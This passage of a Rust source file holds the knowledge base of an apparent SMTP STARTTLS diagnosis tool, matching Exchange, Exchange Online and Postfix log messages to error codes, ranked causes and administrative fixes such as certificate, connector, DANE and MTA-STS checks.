//! The knowledge base: patterns that turn what a sender logged into a catalogue code, the
//! side at fault, what it means, the likely causes ranked, and a fix in the language of the
//! server that has to change.
//!
//! A pattern matches when every one of its phrases occurs in the text (ASCII case folded) and
//! none of its exclusions does. Matches are ranked by the pattern's weight: an enhanced code
//! together with its `[Message=…]` beats the enhanced code alone, which beats a bare reply
//! code; within a weight the table's order decides. One match per code is kept.
//!
//! Which server a fix is written for follows from the text: an Exchange Online message-trace
//! detail about delivery to on premises (`LastAttemptedServerName`, `4.4.317`, `4.7.320`)
//! means the receiver is Exchange Server; `Primary target IP address responded with` or an
//! `Outbound to Office 365` connector means it is Exchange Online; a Postfix server line
//! (`postfix/smtpd`, `SSL_accept error`, `454 4.7.0 TLS not available`) means Postfix. A
//! Postfix *client* line names a receiver of unknown kind.
//!
//! Only vetted values reach a fix: host names that passed `target::normalize_name`, parsed
//! addresses, numbers and zone names. Anything else from the text stays out of commands.
//!
//! # References
//! - shared/field-notes.md §2–§6 and shared/research/anchors.md §(c), (d) (the sources of
//!   each string are cited beside its test sample below)
//! - Microsoft Learn, "Email non-delivery reports and SMTP errors in Exchange Online"
//! - Postfix source (smtp_proto.c, smtp_connect.c, smtp_addr.c, tls_verify.c, tls_server.c,
//!   smtpd.c, smtpd_check.c) for the Postfix log strings
//! - RFC 8460 (TLS-RPT result types), RFC 7672 (DANE for SMTP), RFC 3207 (STARTTLS)

use super::{Extracted, Match, Side};
use crate::diagnose::fix::{Family, Fix, Shell};
use crate::diagnose::fixes::{self, blocklist, cisco, exchange, generic, honest, postfix};
use crate::diagnose::rules::middlebox::StarttlsMask;
use crate::diagnose::{Code, ServerKind};
use crate::model::TlsMode;
use crate::tls::HandshakeFailure;

/// What a fix is written from.
pub struct Ctx<'a> {
    /// What was extracted.
    pub x: &'a Extracted,
    /// The text, ASCII lower case.
    pub lower: &'a str,
    /// The port named, else 25.
    pub port: u16,
    /// The receiving server's kind, as the text implies it.
    pub receiver: ServerKind,
}

impl Ctx<'_> {
    /// The server named (a vetted host name), if any.
    fn host(&self) -> Option<&str> {
        self.x.hosts.first().map(String::as_str)
    }

    /// The server named, or words for it.
    fn host_or(&self, words: &'static str) -> String {
        self.host()
            .map_or_else(|| words.to_string(), str::to_string)
    }

    /// The name senders check: the connector's TlsDomain, else the server named.
    fn checked_name(&self) -> Option<&str> {
        self.x.expect_name.as_deref().or(self.host())
    }

    /// The receiver's kind, or `kind` when the text does not say.
    fn receiver_or(&self, kind: ServerKind) -> ServerKind {
        if self.receiver == ServerKind::Unknown {
            kind
        } else {
            self.receiver
        }
    }

    fn has(&self, needle: &str) -> bool {
        self.lower.contains(needle)
    }
}

/// One pattern of the knowledge base.
pub struct Pattern {
    /// A short, stable name: the tests name each pattern by it (every pattern reached by a
    /// sample, names unique).
    #[cfg_attr(not(test), allow(dead_code))]
    pub name: &'static str,
    /// The catalogue code it means.
    pub code: Code,
    /// Who is at fault.
    pub side: Side,
    /// Phrases that must all occur (lower case).
    pub all: &'static [&'static str],
    /// Phrases that must not occur (lower case).
    pub none: &'static [&'static str],
    /// Specificity: higher wins.
    pub weight: u8,
    /// What it means, in a sentence (`{host}`: the server named).
    pub meaning: &'static str,
    /// The likely causes, most likely first.
    pub causes: &'static [&'static str],
    /// The fix.
    pub fix: fn(&Ctx<'_>) -> Fix,
}

/// The receiving server's kind, as the text implies it.
pub fn receiver_kind(lower: &str) -> ServerKind {
    let any = |n: &[&str]| n.iter().any(|s| lower.contains(s));
    if any(&[
        "primary target ip address responded with",
        "mail.protection.outlook.com",
        "outbound to office 365",
        "tenantattribution",
    ]) {
        ServerKind::ExchangeOnline
    } else if any(&[
        "lastattemptedservername",
        "4.4.317",
        "4.7.320",
        "4.4.316",
        "microsoft esmtp mail service",
        "default frontend",
        "smtpreceive",
        "could not find a certificate that contains the domain name",
    ]) {
        ServerKind::Exchange
    } else if any(&[
        "postfix/smtpd",
        "postfix/postscreen",
        "ssl_accept error",
        "esmtp postfix",
        "tls not available due to local problem",
    ]) {
        ServerKind::Postfix
    } else if any(&["esmtp exim"]) {
        ServerKind::Exim
    } else {
        ServerKind::Unknown
    }
}

// --- Fixes.

const EMS: Shell = Shell::ExchangeManagementShell;
const EXO: Shell = Shell::ExchangeOnlinePowerShell;

fn note(family: Family, template: &'static str, text: &str) -> Fix {
    Fix::new(family, template, &[]).say(text)
}

fn fix_name_mismatch(c: &Ctx<'_>) -> Fix {
    let kind = c.receiver_or(ServerKind::Unknown);
    let what = match c.checked_name() {
        Some(n) => generic::cover_expected(n),
        None => "Get a certificate that covers the name senders check (for Exchange Online: its connector's TlsDomain, else the MX host).".to_string(),
    };
    let fix = fixes::install_certificate(kind, c.port, &what, None);
    match (kind, c.checked_name()) {
        // A 4.7.320 is Exchange Online delivering to the on-premises server: only its
        // outbound connector's TlsDomain is checked in that direction.
        (ServerKind::Exchange | ServerKind::ExchangeOnline, Some(n)) if c.has("4.7.320") => fix
            .followed_by(exchange::point_outbound_connector_at(
                n,
                "<a name on the certificate>",
            )),
        (ServerKind::Exchange | ServerKind::ExchangeOnline, Some(n)) => fix.followed_by(
            exchange::point_connectors_at(n, "<a name on the certificate>"),
        ),
        (_, Some(n)) => fix.followed_by(generic::expected_name_elsewhere(n)),
        _ => fix,
    }
}

fn fix_untrusted(c: &Ctx<'_>) -> Fix {
    let kind = c.receiver_or(ServerKind::Unknown);
    let what = format!(
        "Use a certificate for {} from a CA that public senders trust (not self-signed, not a private CA), and send it with its intermediate certificates.",
        c.host_or("the mail host")
    );
    fixes::install_certificate(kind, c.port, &what, None).followed_by(fixes::incomplete_chain(
        kind,
        c.port,
        "the intermediate certificates your CA issued with it",
    ))
}

fn fix_self_signed(c: &Ctx<'_>) -> Fix {
    let names = c.host_or("the mail host's name");
    fixes::install_certificate(
        c.receiver_or(ServerKind::Unknown),
        c.port,
        &generic::replace_self_signed(&names),
        None,
    )
}

fn fix_chain(c: &Ctx<'_>) -> Fix {
    fixes::incomplete_chain(
        c.receiver_or(ServerKind::Unknown),
        c.port,
        "the intermediate certificates your CA issued with it",
    )
}

fn fix_expired(c: &Ctx<'_>) -> Fix {
    let what = format!(
        "Renew the certificate for {} (it has expired).",
        c.host_or("the mail host")
    );
    let kind = c.receiver_or(ServerKind::Unknown);
    let fix = fixes::install_certificate(kind, c.port, &what, None);
    if kind == ServerKind::Exchange {
        fix.followed_by(note(
            Family::Exchange,
            "explain::resend_after_renewal",
            "Exchange Online may not resubmit what it deferred before the fix: ask senders to resend.",
        ))
    } else {
        fix
    }
}

fn fix_not_yet_valid(_: &Ctx<'_>) -> Fix {
    generic::not_yet_valid()
}

fn fix_weak_key(c: &Ctx<'_>) -> Fix {
    fixes::install_certificate(c.receiver, c.port, generic::strong_key(), None)
}

fn fix_weak_signature(c: &Ctx<'_>) -> Fix {
    fixes::install_certificate(c.receiver, c.port, generic::sha256_signature(), None)
}

fn fix_server_auth(c: &Ctx<'_>) -> Fix {
    fixes::install_certificate(c.receiver, c.port, generic::server_auth(), None)
}

/// STARTTLS missing at an Exchange receive connector (Exchange Online's message trace, Event
/// 12014).
fn fix_exchange_no_starttls(c: &Ctx<'_>) -> Fix {
    let fqdn = c.host_or("the connector's Fqdn");
    exchange::starttls_not_offered(c.port, &fqdn)
}

/// STARTTLS missing at a receiver of any kind (a Postfix client, DANE, Event 2015).
fn fix_no_starttls(c: &Ctx<'_>) -> Fix {
    let kind = match c.receiver {
        ServerKind::ExchangeOnline => ServerKind::Unknown,
        k => k,
    };
    let fqdn = c.host_or("the server's greeting name");
    fixes::starttls_not_offered(kind, c.port, &fqdn, None).followed_by(cisco::allow_tls(false))
}

fn fix_eop_withheld(c: &Ctx<'_>) -> Fix {
    exchange::blocklisted(c.x.sender_addresses.first().copied()).followed_by(
        Fix::new(Family::Exchange, "explain::send_connector_tls", &[])
            .say(
                "If the address is not listed, check the on-premises side: the send connector's certificate must be enabled for SMTP, \
                 and the egress address must be one the hybrid inbound connector accepts. In the Exchange Management Shell:",
            )
            .run(EMS, exchange::list_certificates())
            .run(EMS, "Get-SendConnector | fl Name,RequireTLS,TlsCertificateName,TlsAuthLevel,SmartHosts"),
    )
}

fn fix_microsoft_delist(c: &Ctx<'_>) -> Fix {
    let ip = c.x.sender_addresses.first().map(ToString::to_string);
    blocklist::microsoft_delist(ip.as_deref())
}

fn fix_blocked_using(c: &Ctx<'_>) -> Fix {
    let ip = c.x.sender_addresses.first().map(ToString::to_string);
    blocklist::refused_as_listed(ip.as_deref(), c.x.blocklist_zone.as_deref())
}

fn fix_tenant_attribution(_: &Ctx<'_>) -> Fix {
    Fix::new(Family::ExchangeOnline, "explain::tenant_attribution", &[])
        .say(
            "Compare what the inbound connector expects with what the on-premises server presents. In Exchange Online PowerShell:",
        )
        .run(EXO, "Get-InboundConnector | fl Name,ConnectorType,RequireTls,TlsSenderCertificateName,SenderIPAddresses")
        .say(
            "TlsSenderCertificateName must be a name on the certificate the on-premises send connector presents, and an accepted domain of the tenant. \
             Point it at that name:",
        )
        .run(EXO, "Set-InboundConnector '<name>' -TlsSenderCertificateName <a name on the certificate>")
        .say("On premises, make sure the send connector presents the current certificate (Exchange Management Shell):")
        .run(EMS, exchange::list_certificates())
        .run(EMS, exchange::tls_certificate_name("<thumbprint of that certificate>"))
        .run(EMS, exchange::set_send_connector_certificate())
        .run(EMS, exchange::restart_transport_services())
        .followed_by(exchange::incomplete_chain(
            "the intermediate certificates your CA issued with it",
        ))
        .followed_by(note(
            Family::Exchange,
            "explain::rerun_hcw",
            "Then re-run the Hybrid Configuration Wizard, which rewrites both connectors.",
        ))
}

fn fix_sender_certificate(_: &Ctx<'_>) -> Fix {
    Fix::new(Family::Exchange, "explain::sender_certificate", &[])
        .say(
            "The send connector names a certificate that is gone or unusable. In the Exchange Management Shell, pick the current certificate \
             (Status Valid, HasPrivateKey True), bind it to SMTP and point the send connector at it:",
        )
        .run(EMS, exchange::list_certificates())
        .run(EMS, exchange::enable_for_smtp("<thumbprint of that certificate>"))
        .run(EMS, exchange::tls_certificate_name("<thumbprint of that certificate>"))
        .run(EMS, exchange::set_send_connector_certificate())
        .run(EMS, exchange::restart_transport_services())
        .say("In a hybrid, re-run the Hybrid Configuration Wizard afterwards.")
}

/// The sending Postfix trusts no public root: point it at the system's CA bundle.
fn fix_sender_ca_store(_: &Ctx<'_>) -> Fix {
    Fix::new(Family::Postfix, "explain::sender_ca_store", &[])
        .say(
            "On the sending Postfix, see which CA file or directory the SMTP client trusts (nothing, by default):",
        )
        .run(
            Shell::PostfixShell,
            "postconf -n | grep -E '^smtp_tls_CA(file|path) '",
        )
        .say(
            "Point it at the system's bundle of public roots (Debian and Ubuntu: /etc/ssl/certs/ca-certificates.crt; RHEL and Fedora: \
             /etc/pki/tls/certs/ca-bundle.crt; check that the file exists on this host), then reload. On Debian and Ubuntu:",
        )
        .run(
            Shell::PostfixShell,
            "test -r /etc/ssl/certs/ca-certificates.crt && postconf -e 'smtp_tls_CAfile = /etc/ssl/certs/ca-certificates.crt' && postfix reload",
        )
        .say("The receiving server needs no change.")
}

fn fix_tls_required(c: &Ctx<'_>) -> Fix {
    if c.has("postfix") {
        return Fix::new(Family::Postfix, "explain::client_tls", &[])
            .say(
                "The receiver requires TLS and this Postfix sent without it. Let the Postfix client use STARTTLS whenever it is offered \
                 (smtp_tls_security_level = may, or encrypt for this destination in smtp_tls_policy_maps):",
            )
            .run(Shell::PostfixShell, "postconf smtp_tls_security_level")
            .run(Shell::PostfixShell, "postconf -e 'smtp_tls_security_level = may'")
            .run(Shell::PostfixShell, postfix::reload());
    }
    note(
        Family::Generic,
        "explain::client_tls",
        "The receiver requires TLS and the sender did not use STARTTLS. Turn on TLS for outgoing mail on the sending server \
         (Exchange: the send connector's RequireTLS or opportunistic TLS with a certificate bound to SMTP; Postfix: smtp_tls_security_level = may). \
         If the sender did ask for STARTTLS, something in the path removed it: probe the receiver from the sender's network.",
    )
}

fn fix_connect_refused(c: &Ctx<'_>) -> Fix {
    generic::connect_refused(c.port)
}

fn fix_connect_timeout(c: &Ctx<'_>) -> Fix {
    generic::connect_timeout(c.port)
}

fn fix_connect_failed(_: &Ctx<'_>) -> Fix {
    generic::connect_failed()
}

fn fix_banner_timeout(_: &Ctx<'_>) -> Fix {
    generic::banner_timeout()
}

fn fix_closed(_: &Ctx<'_>) -> Fix {
    generic::connection_closed()
}

fn fix_broken_off(_: &Ctx<'_>) -> Fix {
    generic::handshake_broken_off()
}

fn fix_lookup_failed(c: &Ctx<'_>) -> Fix {
    generic::lookup_failed(&c.host_or("the destination"))
}

fn fix_nxdomain(c: &Ctx<'_>) -> Fix {
    generic::domain_missing(&c.host_or("the recipient domain"))
}

fn fix_null_mx(c: &Ctx<'_>) -> Fix {
    generic::null_mx(&c.host_or("the domain"))
}

fn fix_mx_invalid(_: &Ctx<'_>) -> Fix {
    note(
        Family::Generic,
        "explain::mx_invalid",
        "An MX record must name a host name that has an A/AAAA record, never an IP address (RFC 5321 §5.1): publish `MX 10 <mail host name>` \
         and an A record for that name, then probe the domain with starttls-check.",
    )
}

fn fix_legacy(c: &Ctx<'_>) -> Fix {
    fixes::handshake(
        c.receiver_or(ServerKind::Exchange),
        c.port,
        HandshakeFailure::ProtocolVersion,
    )
}

fn fix_handshake_failure(c: &Ctx<'_>) -> Fix {
    let kind = c.receiver;
    fixes::handshake(kind, c.port, HandshakeFailure::ProtocolVersion).followed_by(fixes::handshake(
        kind,
        c.port,
        HandshakeFailure::NoSharedCipher,
    ))
}

fn fix_ssl_accept(c: &Ctx<'_>) -> Fix {
    postfix::no_shared_cipher(c.port)
}

fn fix_tls_unavailable(c: &Ctx<'_>) -> Fix {
    fixes::starttls_unavailable(c.receiver_or(ServerKind::Unknown), c.port)
}

fn fix_rate_limited(c: &Ctx<'_>) -> Fix {
    honest::rate_limited(c.host(), true)
}

fn fix_bad_helo(_: &Ctx<'_>) -> Fix {
    note(
        Family::Generic,
        "explain::bad_helo",
        "Exchange Online refuses a client that greets with the receiving server's own name. Make the sending server greet (EHLO) with its own \
         fully qualified name, one with matching forward and reverse DNS (Exchange: the send connector's Fqdn; Postfix: smtp_helo_name).",
    )
}

fn fix_starttls_mangled(c: &Ctx<'_>) -> Fix {
    cisco::starttls_rewritten(c.receiver == ServerKind::Exchange)
}

fn fix_masked_banner(_: &Ctx<'_>) -> Fix {
    cisco::banner_masked(true)
}

fn fix_masked_keywords(_: &Ctx<'_>) -> Fix {
    cisco::keywords_masked(false, StarttlsMask::Possible)
}

fn fix_ordering(_: &Ctx<'_>) -> Fix {
    note(
        Family::Generic,
        "explain::capability_order",
        "The receiver lists its capabilities before the greeting line of its EHLO reply (RFC 1869 puts the greeting first), so a Cisco ESA \
         takes `250-STARTTLS` for the greeting and sends in plain text. The receiving server (or a proxy in front of it) must answer EHLO \
         with the greeting line first.",
    )
    .followed_by(cisco::irregular_replies())
}

fn fix_mode_mismatch(c: &Ctx<'_>) -> Fix {
    honest::mode_mismatch(c.port, TlsMode::Starttls, c.port == 465, false, c.host())
}

/// The DANE checks, from any shell, for a vetted host and port.
fn dane_commands(fix: Fix, c: &Ctx<'_>) -> Fix {
    let Some(host) = c.host() else {
        return fix.say("Look up the TLSA records of `_25._tcp.<mx host>` with `dig +dnssec` and compare them with the certificate served.");
    };
    let port = c.port;
    fix.run(Shell::Shell, format!("dig +dnssec +short TLSA _{port}._tcp.{host}"))
        .run(
            Shell::Shell,
            format!(
                "openssl s_client -connect {host}:{port} -starttls smtp </dev/null 2>/dev/null | openssl x509 -noout -pubkey | openssl pkey -pubin -outform DER | sha256sum   # the \"3 1 1\" digest"
            ),
        )
}

fn fix_tlsa(c: &Ctx<'_>) -> Fix {
    let f = Fix::new(
        Family::Generic,
        "explain::dane_tlsa",
        &[&c.host_or(""), &c.port.to_string()],
    )
    .say(
        "Make the TLSA records match the certificate served: publish a \"3 1 1\" record of the current key (it survives renewals on the same key), \
         and before every key change publish the new record next to the old one for at least the TTL. Compare:",
    );
    dane_commands(f, c).followed_by(dane_probe(
        c,
        "starttls-check matches the host's TLSA records against the chain it sends, as a DANE sender does: dane-no-match (none \
         matches), dane-records-unusable (none usable for SMTP), dane-rollover-risk (only the current key pinned) or dane-ok.",
    ))
}

/// The probe that judges DANE (RFC 7672), with what it needs: a validating resolver whose AD
/// bit the run trusts (one on loopback, or `--trust-resolver`). `what`: the codes it gives.
fn dane_probe(c: &Ctx<'_>, what: &str) -> Fix {
    let target = c.host().map(|h| {
        let t = super::probe::shell_word(&format!("[{h}]"));
        if c.port == 25 {
            t
        } else {
            format!("{t} -p {}", c.port)
        }
    });
    let f = Fix::new(Family::Generic, "explain::dane_probe", &[])
        .say(what)
        .say(
            "It judges DANE only through a validating resolver whose AD bit it may trust: one on this machine (unbound \
             validates as installed), or one you name with --trust-resolver when you trust it and the path to it:",
        )
        .run(Shell::Shell, "sudo apt-get install unbound")
        .run(Shell::Shell, "dig +dnssec @127.0.0.1 . SOA   # ad among the flags: it validates");
    match target {
        Some(t) => f.run(
            Shell::Shell,
            format!("starttls-check {t} --resolver 127.0.0.1"),
        ),
        None => f.say("Then: starttls-check <mx host> --resolver 127.0.0.1"),
    }
}

fn fix_dnssec(c: &Ctx<'_>) -> Fix {
    let f = Fix::new(Family::Generic, "explain::dane_dnssec", &[&c.host_or("")]).say(
        "Find the broken link of the DNSSEC chain (expired signatures, a DS record at the registrar that matches no key, name servers that \
         disagree) with a validating lookup, and fix it at the DNS provider or registrar:",
    );
    let f = match c.host() {
        Some(h) => f
            .run(Shell::Shell, format!("delv {h} A"))
            .run(Shell::Shell, format!("dig +dnssec +multi {h} A")),
        None => f.say("`delv <mx host> A` names the failing record."),
    };
    f.followed_by(dane_probe(
        c,
        "starttls-check looks the MX, address and TLSA records up with DNSSEC and reports a validation failure as \
         dane-dnssec-bogus, naming the answer that failed.",
    ))
}

/// The MTA-STS policy checks (RFC 8461 §3.3), from any shell: the domain is not in the text
/// a TLS-RPT result type comes in, so the commands name it as a placeholder.
fn sts_fix(template: &'static str, advice: &str) -> Fix {
    Fix::new(Family::Generic, template, &[]).say(advice).say(
        "Fetch the policy as senders do (no redirect followed; 200, `Content-Type: text/plain`, a certificate from a public CA \
         for mta-sts.<domain>): `curl -sv https://mta-sts.<domain>/.well-known/mta-sts.txt`. Then `starttls-check <domain>` \
         fetches it the same way, parses it and matches every MX host against it (mta-sts-policy-fetch-failed, \
         mta-sts-policy-certificate-invalid, mta-sts-policy-invalid, mta-sts-record-invalid, mta-sts-mx-mismatch or mta-sts-ok).",
    )
}

fn fix_sts_fetch(_: &Ctx<'_>) -> Fix {
    sts_fix(
        "explain::sts_fetch",
        "Serve the policy itself at https://mta-sts.<domain>/.well-known/mta-sts.txt: publish an address for mta-sts.<domain>, \
         answer on port 443 with 200 and no redirect (RFC 8461 §3.3).",
    )
}

fn fix_sts_webpki(_: &Ctx<'_>) -> Fix {
    sts_fix(
        "explain::sts_webpki",
        "Install on the mta-sts.<domain> web server a certificate from a public CA that names mta-sts.<domain>, with its \
         intermediate certificates: senders check it like a browser (RFC 8461 §3.3).",
    )
}

fn fix_sts_policy(_: &Ctx<'_>) -> Fix {
    sts_fix(
        "explain::sts_policy",
        "Correct the policy file (RFC 8461 §3.2): `version: STSv1`, `mode: enforce`, `testing` or `none`, one `mx:` line per \
         MX host or `*.` pattern, `max_age` in seconds (at most 31557600), CRLF line ends; and exactly one `_mta-sts` TXT \
         record `v=STSv1; id=...` (§3.1).",
    )
}

/// The probe that fetches the chain's CRLs, when the text names the server.
fn revocation_probe(c: &Ctx<'_>, fix: Fix) -> Fix {
    match c.host() {
        Some(h) => fix
            .say(
                "starttls-check fetches every CRL the chain names and reports cert-revoked, crl-unreachable, crl-stale or \
                 crl-invalid:",
            )
            .run(
                Shell::Shell,
                format!("starttls-check {}", super::probe::shell_word(&format!("[{h}]"))),
            ),
        None => fix.say(
            "`starttls-check <mx host>` fetches every CRL the chain names and reports cert-revoked, crl-unreachable, \
             crl-stale or crl-invalid.",
        ),
    }
}

fn fix_revoked(c: &Ctx<'_>) -> Fix {
    revocation_probe(c, fixes::revocation::revoked("the server's certificate"))
}

fn fix_crl_unreachable(c: &Ctx<'_>) -> Fix {
    let f = Fix::new(Family::Generic, "explain::crl_unreachable", &[])
        .say(
            "The CRL the certificate names (its CRL distribution point) cannot be downloaded where the check runs. If it fails only \
             from this server (Exchange then shows the certificate's Status as RevocationCheckFailure), let the server reach the URL \
             through its firewall or proxy; if it fails from everywhere, the CA, or whoever publishes a private CA's CRL, must serve \
             it over plain http (RFC 5280 §4.2.1.13). On Windows, every URL the chain check fetches, and the proxy it uses:",
        )
        .run(Shell::WindowsPowerShell, "certutil -verify -urlfetch <certificate>.cer")
        .run(Shell::WindowsPowerShell, "netsh winhttp show proxy");
    revocation_probe(c, f)
}

// --- The patterns.

macro_rules! p {
    ($name:literal, $code:ident, $side:ident, $w:literal, [$($all:literal),+], [$($none:literal),*], $meaning:literal, [$($cause:literal),+], $fix:ident) => {
        Pattern {
            name: $name,
            code: Code::$code,
            side: Side::$side,
            all: &[$($all),+],
            none: &[$($none),*],
            weight: $w,
            meaning: $meaning,
            causes: &[$($cause),+],
            fix: $fix,
        }
    };
}

/// Every pattern, most specific first within a code.
pub const PATTERNS: &[Pattern] = &[
    // --- Exchange Online → on premises: certificate validation (4.7.320).
    p!(
        "exo-4.7.320-subject-mismatch",
        CertNameMismatch,
        Receiver,
        95,
        ["4.7.320", "subjectmismatch"],
        [],
        "Exchange Online reached {host} but its certificate does not carry the name the outbound connector checks (its TlsDomain).",
        [
            "the certificate lacks the connector's TlsDomain (a renewal with other names, or a TlsDomain that names another host)",
            "one node behind the load balancer presents its self-signed CN=SERVER certificate (its receive connector's TlsCertificateName is empty)",
            "an appliance in front of Exchange presents its own certificate"
        ],
        fix_name_mismatch
    ),
    p!(
        "exo-4.7.320-chain-trust",
        CertUntrusted,
        Receiver,
        95,
        ["4.7.320", "chaintrust"],
        [],
        "Exchange Online reached {host} but could not build a trusted chain for its certificate.",
        [
            "the server does not send its intermediate certificates",
            "a self-signed or private-CA certificate is bound",
            "the CRL of the issuing CA cannot be reached"
        ],
        fix_untrusted
    ),
    p!(
        "exo-4.7.320-expired",
        CertExpired,
        Receiver,
        95,
        ["4.7.320", "expired"],
        // The final NDR of a deferred message says `550 4.4.7 QUEUE.Expired; message
        // expired`: the queue's expiry, not the certificate's.
        ["queue.expired", "message expired"],
        "Exchange Online reached {host} but its certificate has expired.",
        [
            "the certificate was renewed but the receive connector still names the old one (TlsCertificateName)",
            "the certificate was not renewed"
        ],
        fix_expired
    ),
    p!(
        "exo-4.7.320",
        CertNameMismatch,
        Receiver,
        70,
        ["4.7.320"],
        [],
        "Exchange Online reached {host} but rejected its certificate; without the [Message=…] detail the usual reason is a name mismatch.",
        [
            "the certificate lacks the connector's TlsDomain",
            "a self-signed certificate on one node behind the load balancer",
            "an expired certificate",
            "an incomplete chain"
        ],
        fix_name_mismatch
    ),
    // --- Exchange Online → on premises: no STARTTLS, no connection.
    p!(
        "exo-4.4.317-starttls-required",
        StarttlsNotOffered,
        Receiver,
        90,
        ["4.4.317", "starttls is required"],
        [],
        "Exchange Online connected to {host}, which did not offer STARTTLS, and its connector requires TLS.",
        [
            "the receive connector's TlsCertificateName still names the certificate replaced at renewal",
            "the connector's Fqdn is on no SMTP-enabled certificate (Event 12014: STARTTLS silently not advertised)",
            "the connector's AuthMechanism lacks Tls",
            "a firewall with SMTP inspection strips STARTTLS"
        ],
        fix_exchange_no_starttls
    ),
    p!(
        "exo-4.4.317",
        SmtpTemporaryRefusal,
        Path,
        60,
        ["4.4.317"],
        [],
        "Exchange Online could not complete a connection to {host}.",
        [
            "the server refused or dropped the session",
            "a firewall in the path"
        ],
        fix_closed
    ),
    p!(
        "exchange-event-12014",
        StarttlsNotOffered,
        Receiver,
        85,
        ["could not find a certificate that contains the domain name"],
        [],
        "Exchange found no SMTP certificate for the receive connector's Fqdn, so it does not advertise STARTTLS there.",
        [
            "the connector's Fqdn (often a .local name) is on no certificate enabled for SMTP",
            "the certificate was renewed and not enabled for SMTP"
        ],
        fix_exchange_no_starttls
    ),
    p!(
        "exo-4.4.316-refused",
        ConnectRefused,
        Path,
        90,
        ["4.4.316"],
        [],
        "Exchange Online could not open a TCP connection to {host}: the connection was refused.",
        [
            "port 25 is closed on the firewall or NAT in front of the server",
            "the transport service is stopped",
            "Exchange Online Protection's ranges are not allowed"
        ],
        fix_connect_refused
    ),
    p!(
        "exo-4.4.315-timeout",
        ConnectTimeout,
        Path,
        90,
        ["4.4.315"],
        [],
        "Exchange Online's connection attempts to {host} timed out.",
        [
            "a firewall drops the packets to port 25",
            "a wrong smart host or MX address"
        ],
        fix_connect_timeout
    ),
    p!(
        "exo-4.4.318-closed",
        SmtpConnectionClosed,
        Path,
        90,
        ["4.4.318"],
        [],
        "{host} (or a device in front of it) closed the connection abruptly.",
        [
            "an SMTP-inspecting firewall or IPS drops the session",
            "the receiving service crashed or restarted"
        ],
        fix_closed
    ),
    p!(
        "exo-suspicious-remote",
        TlsLegacyOnly,
        Receiver,
        90,
        ["suspiciousremoteservererror"],
        [],
        "{host} disconnected during the TLS negotiation with Exchange Online, which speaks only TLS 1.2 or newer.",
        [
            "the receiver speaks only TLS 1.0/1.1 (Exchange 2003/2007, IIS SMTP, old appliances)",
            "an SMTP fixup on a firewall breaks the session"
        ],
        fix_legacy
    ),
    // --- On premises → Exchange Online.
    p!(
        "eop-withheld-starttls",
        EgressIpBlocklisted,
        Reputation,
        95,
        [
            "primary target ip address responded with",
            "must issue a starttls command first"
        ],
        [],
        "Exchange Online Protection did not offer STARTTLS to the on-premises server, whose send connector requires TLS.",
        [
            "the egress address is on a blocklist EOP uses (Spamhaus XBL/CBL)",
            "the on-premises certificate is not enabled for SMTP, so the connector does not start TLS",
            "the egress address is not one the hybrid inbound connector accepts"
        ],
        fix_eop_withheld
    ),
    p!(
        "eop-4.4.397-timedout",
        SmtpConnectionClosed,
        Path,
        90,
        ["4.4.397"],
        [],
        "The connection to {host} was dropped during the session, right after the certificate exchange.",
        [
            "a firewall or proxy in the path cuts the TLS session",
            "the certificate sent is refused (chain, name)"
        ],
        fix_broken_off
    ),
    p!(
        "connection-dropped-timedout",
        SmtpConnectionClosed,
        Path,
        70,
        ["connection dropped due to"],
        [],
        "The remote end dropped the connection before the message was sent.",
        [
            "a firewall or proxy in the path cuts the session",
            "the receiver refused the TLS parameters"
        ],
        fix_broken_off
    ),
    p!(
        "eop-5.7.64-tenant-attribution",
        ConnectorTenantAttribution,
        Sender,
        95,
        ["5.7.64"],
        [],
        "Exchange Online refused to relay mail from the on-premises server: no inbound connector accepted it as the tenant's.",
        [
            "TlsSenderCertificateName no longer matches the renewed certificate",
            "the send connector presents no certificate (TlsCertificateName of a replaced one)",
            "the on-premises server does not send the intermediate certificates",
            "the egress address changed"
        ],
        fix_tenant_attribution
    ),
    p!(
        "tenant-attribution",
        ConnectorTenantAttribution,
        Sender,
        80,
        ["tenantattribution"],
        [],
        "Exchange Online could not attribute the relayed mail to the tenant.",
        [
            "TlsSenderCertificateName no longer matches the certificate presented",
            "the egress address changed"
        ],
        fix_tenant_attribution
    ),
    p!(
        "send-connector-certificate-not-found",
        SenderCertificateMissing,
        Sender,
        95,
        ["tlscertificatename of the sendconnector could not be found"],
        [],
        "The on-premises send connector names a certificate that is not in the store.",
        [
            "the certificate was renewed and the send connector still names the old one",
            "the certificate was removed"
        ],
        fix_sender_certificate
    ),
    p!(
        "454-4.7.5-validation",
        SenderCertificateMissing,
        Sender,
        85,
        ["4.7.5", "certificate validation failure"],
        [],
        "The TLS session between on premises and Exchange Online failed on the certificate the on-premises side presents.",
        [
            "the send connector's TlsCertificateName was not updated after renewal",
            "names differ between the front end and the Edge server"
        ],
        fix_sender_certificate
    ),
    p!(
        "no-credentials",
        SenderCertificateMissing,
        Sender,
        90,
        ["tls negotiation failed with error nocredentials"],
        [],
        "The sending Exchange server has no usable certificate for the connector, so TLS fails.",
        [
            "no certificate enabled for SMTP matches the connector",
            "the certificate's private key is missing"
        ],
        fix_sender_certificate
    ),
    p!(
        "unknown-credentials",
        SenderCertificateMissing,
        Sender,
        90,
        ["tls negotiation failed with error unknowncredentials"],
        [],
        "The sending Exchange server could not use the certificate the connector names.",
        [
            "a third-party certificate is not bound to SMTP (Enable-ExchangeCertificate -Services SMTP)",
            "the transport service cannot read its private key"
        ],
        fix_sender_certificate
    ),
    p!(
        "exo-5.7.606-649",
        EgressIpBlocklisted,
        Reputation,
        95,
        ["banned sending ip"],
        [],
        "Exchange Online Protection refuses the sending address: it is on Microsoft's own list of banned senders.",
        [
            "mail from the address looked like spam (a compromised account or machine)",
            "a shared or newly assigned address with a bad history"
        ],
        fix_microsoft_delist
    ),
    p!(
        "exo-5.7.511-banned-sender",
        EgressIpBlocklisted,
        Reputation,
        90,
        ["5.7.511"],
        [],
        "Exchange Online Protection banned the sending address.",
        [
            "the address sent spam; Microsoft's delist portal does not apply: write to delist@microsoft.com"
        ],
        fix_microsoft_delist
    ),
    p!(
        "exo-4.7.500-server-busy",
        SmtpRateLimited,
        Reputation,
        85,
        ["4.7.5", "server busy"],
        [],
        "Exchange Online Protection throttles the sending address for now.",
        [
            "sudden volume from a new or low-reputation address",
            "suspicious activity from the address"
        ],
        fix_rate_limited
    ),
    p!(
        "exo-4.7.5xx-try-later",
        SmtpRateLimited,
        Reputation,
        80,
        ["access denied, please try again later"],
        [],
        "Exchange Online Protection temporarily restricts the sending address.",
        [
            "suspicious activity from the address",
            "a new address without reputation"
        ],
        fix_rate_limited
    ),
    p!(
        "exo-5.7.506-bad-helo",
